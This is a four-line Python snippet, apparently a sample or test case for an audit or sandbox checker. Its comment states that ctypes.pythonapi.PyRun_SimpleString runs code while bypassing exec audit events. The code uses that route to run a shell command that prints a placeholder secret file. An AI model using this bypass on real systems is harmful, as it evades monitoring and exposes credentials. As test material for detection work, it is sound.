# ctypes.pythonapi runs text in the interpreter, past every audit event of exec.
# effect: run
import ctypes
ctypes.pythonapi.PyRun_SimpleString(b"import os\nos.system('cat @SECRET@')")
